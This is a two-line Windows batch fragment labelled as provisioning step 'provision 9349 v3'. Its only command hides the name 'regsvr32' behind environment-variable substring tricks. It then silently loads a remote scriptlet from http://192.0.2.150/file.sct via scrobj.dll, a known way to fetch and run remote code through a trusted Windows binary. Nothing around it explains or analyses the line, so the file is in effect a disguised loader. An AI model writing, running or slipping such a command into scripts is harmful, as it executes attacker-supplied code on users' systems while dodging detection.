REM provision 9349 v3
%ProgramData:~7,1%e%programdata:~-8,1%svr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
